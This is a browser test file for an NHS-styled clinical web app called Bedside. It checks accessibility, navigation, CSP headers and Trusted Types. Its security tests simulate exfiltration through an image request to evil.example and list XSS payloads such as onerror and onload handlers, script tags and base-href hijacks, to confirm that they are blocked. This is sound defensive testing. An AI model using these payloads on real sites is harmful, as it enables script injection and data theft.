import { test, expect, takeExpectedProblems, expectAccessible } from "./fixtures";
import { AppShell } from "./pages/app-shell";

test.describe("app shell", () => {
  test("home page has the NHS page template and passes axe", async ({ page }) => {
    const shell = new AppShell(page);
    await shell.open("/");

    await expect(page).toHaveTitle("Bedside");
    await expect(shell.heading).toHaveText("Sign in to Bedside");
    await expect(shell.homeLink).toHaveAttribute("href", "/");
    await expect(shell.header).toContainText("Bedside");
    // The gallery is a site of its own: nothing of it in a ward build.
    await expect(page.getByRole("link", { name: /gallery/i })).toHaveCount(0);
    await expectAccessible(page);
  });

  test("the skip link is the first stop and moves focus to the main content", async ({ page }) => {
    const shell = new AppShell(page);
    await shell.open("/");

    await page.keyboard.press("Tab");
    await expect(shell.skipLink).toBeFocused();
    await page.keyboard.press("Enter");
    await expect(shell.main).toBeFocused();
    // The router must not treat #maincontent as a navigation.
    expect(new URL(page.url()).pathname).toBe("/");
    await expect(shell.heading).toHaveText("Sign in to Bedside");
  });

  test("client-side navigation updates the title and focuses the new page", async ({ page }) => {
    const shell = new AppShell(page);
    await shell.open("/no-such-page");
    await expect(page).toHaveTitle("Page not found – Bedside");
    // A full page load would lose this; client-side navigation keeps it.
    await page.evaluate(() => ((window as unknown as { bedsideMarker: number }).bedsideMarker = 42));

    await shell.main.getByRole("link", { name: "go to the Bedside start page" }).click();

    await expect(shell.heading).toHaveText("Sign in to Bedside");
    await expect(page).toHaveTitle("Bedside");
    await expect(shell.main).toBeFocused();
    expect(new URL(page.url()).pathname).toBe("/");
    expect(await page.evaluate(() => (window as unknown as { bedsideMarker?: number }).bedsideMarker)).toBe(42);
  });

  test("pages are served with a strict Content-Security-Policy", async ({ page }) => {
    const response = await new AppShell(page).open("/");
    const csp = response.headers()["content-security-policy"] ?? "";

    expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).not.toContain("unsafe-inline");
    expect(csp).not.toMatch(/'unsafe-eval'/);
    // The app may call exactly the FHIR servers, sign-in services and
    // decision support services the deployment's settings name
    // (config/sandbox.json here), besides itself.
    const settings = await (await page.request.get("/config.json")).json();
    const named = settings.signOn.organisations.flatMap((o: { fhirBaseUrl: string; issuer: string; cdsServices?: { base: string }[] }) =>
      [o.fhirBaseUrl, o.issuer, ...(o.cdsServices ?? []).map((s) => s.base)].map((u) => new URL(u).origin),
    );
    expect(named, "the sandbox's decision support services are named").toContain(`http://localhost:${process.env.SANDBOX_CDS_PORT ?? 8108}`);
    const connect = csp.split(";").map((d) => d.trim()).find((d) => d.startsWith("connect-src"))!.split(/\s+/).slice(1);
    expect(connect.sort()).toEqual(["'self'", ...new Set(named)].sort());
    // The app ran under it: its heading rendered (checked in open) and no violation fired (fixture).
    const inline = await page.locator("script:not([src])").count();
    expect(inline, "inline scripts in the served page").toBe(0);
    expect(csp).toContain("form-action 'self';");
    expect(response.headers()["strict-transport-security"]).toContain("max-age=");
  });

  test("what the policy blocks is reported to the deployment's collector", async ({ page, pageProblems }) => {
    const response = await new AppShell(page).open("/");
    expect(response.headers()["content-security-policy"]).toContain("report-uri ");
    // An image from another origin (how injected code would carry data
    // away): refused, and reported. (Injected script text is refused before
    // this, by Trusted Types: the next test.)
    const marker = `exfiltrate${Date.now()}`;
    await page.evaluate((name) => {
      const img = document.createElement("img");
      img.src = `https://evil.example/${name}.png`;
      document.body.append(img);
    }, marker);
    const reports = `http://localhost:${process.env.SANDBOX_FHIR_PORT ?? 8103}/_sandbox/csp-reports`;
    await expect
      .poll(async () => JSON.stringify(await (await page.request.get(reports)).json()))
      .toContain(marker);
    takeExpectedProblems(pageProblems, /Content Security Policy|CSP violation/i);
  });

  test("HTML reaches the page only through a Trusted Types policy: markup that could run is refused and reported", async ({ page, pageProblems }) => {
    const response = await new AppShell(page).open("/");
    const csp = response.headers()["content-security-policy"] ?? "";
    expect(csp).toContain("require-trusted-types-for 'script'");
    expect(csp).toContain("trusted-types bedside-narrative default");
    // The app built its first screen under it (open checked the heading):
    // Leptos' templates pass the default policy. What DOM-based XSS would
    // set is refused, however it is written.
    const attacks = [
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      '<p title="x"onmouseover="alert(1)">',
      "<IMG SRC=x OnError = alert(1)>",
      "<script>alert(1)</script>",
      "<iframe srcdoc='x'></iframe>",
      "<base href=//evil.example/>",
      "<meta http-equiv=refresh content='0;url=//evil.example'>",
      "<style>body{display:none}</style>",
    ];
    const outcome = await page.evaluate((attacks) => {
      const set = (html: string) => {
        const div = document.createElement("div");
        try {
          div.innerHTML = html;
          return "set";
        } catch (e) {
          return (e as Error).name;
        }
      };
      const script = document.createElement("script");
      let scriptUrl = "set";
      try {
        script.src = "/x.js";
      } catch (e) {
        scriptUrl = (e as Error).name;
      }
      return { attacks: attacks.map(set), inert: set('<p class="nhsuk-body">Based on the last set</p>'), scriptUrl };
    }, attacks);
    expect(outcome.attacks).toEqual(attacks.map(() => "TypeError"));
    expect(outcome.inert, "markup with nothing that runs is set").toBe("set");
    expect(outcome.scriptUrl, "no policy makes script URLs").toBe("TypeError");
    const reports = `http://localhost:${process.env.SANDBOX_FHIR_PORT ?? 8103}/_sandbox/csp-reports`;
    await expect
      .poll(async () => JSON.stringify(await (await page.request.get(reports)).json()))
      .toContain("require-trusted-types-for");
    takeExpectedProblems(pageProblems, /CSP violation|'Trusted(HTML|ScriptURL)' assignment/);
  });
});
